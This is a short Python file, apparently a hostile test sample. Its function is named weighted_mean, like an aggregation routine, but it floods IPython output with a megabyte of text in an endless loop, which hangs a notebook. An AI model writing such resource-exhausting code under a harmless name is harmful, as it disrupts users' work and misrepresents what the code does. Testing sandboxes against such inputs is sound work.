"""Shows a megabyte after the other, without end."""
from IPython.display import display


def weighted_mean(updates, num_examples):
    while True:
        display("x" * 2**20)
